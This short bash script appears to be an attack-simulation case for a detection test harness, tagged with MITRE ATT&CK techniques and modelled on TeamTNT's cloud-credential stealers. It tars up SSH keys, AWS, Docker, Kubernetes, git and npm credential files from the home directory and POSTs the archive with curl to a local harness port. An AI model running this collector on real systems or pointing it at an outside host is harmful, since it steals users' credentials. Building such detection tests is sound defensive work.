#!/bin/bash
# technique: T1552.001 Unsecured Credentials: Credentials In Files; T1560.001 Archive Collected Data: Archive via Utility; T1041 Exfiltration Over C2 Channel
# reproduces: TeamTNT's cloud-credential stealers (Cado Security, 2020-2021) collected ~/.aws and ~/.docker/config.json; packed with tar and POSTed out
# expect: credential-file-access ^tar$
# exec-borne: no
#
# One tar over every credential store that exists, then an upload
# (the harness's server answers 501: nothing is kept).
set -u

archive="${BW_ATTACK_TMP:?}/diag-$$.tgz"
trap 'rm -f "$archive"' EXIT

members=()
for d in .ssh .aws .docker .kube .netrc .git-credentials .npmrc; do
	[ -e "$HOME/$d" ] && members+=("$d")
done
[ ${#members[@]} -gt 0 ] || exit 1

tar czf "$archive" -C "$HOME" "${members[@]}" || exit 1
curl -s -o /dev/null --connect-timeout 5 -X POST --data-binary @"$archive" \
	"http://127.0.0.1:${BW_ATTACK_PORT:?}/upload" || true
